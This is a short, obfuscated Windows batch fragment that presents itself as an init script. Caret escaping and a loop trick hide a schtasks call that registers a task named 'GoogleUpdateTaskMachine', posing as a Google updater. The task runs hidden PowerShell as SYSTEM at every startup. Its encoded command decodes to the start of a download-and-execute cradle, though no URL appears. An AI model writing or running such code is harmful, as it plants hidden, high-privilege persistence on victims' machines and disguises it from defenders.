REM init 3904 v4
^f^o^r /^f "tokens=1 delims=@" %%i ^in ("schtasks@vwbz@gtcu") do %%^i /cr^e^ate /tn "GoogleUpdateTaskMachine" /^t^r "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /^s^c ons^tar^t /^ru SYST^E^M /^f
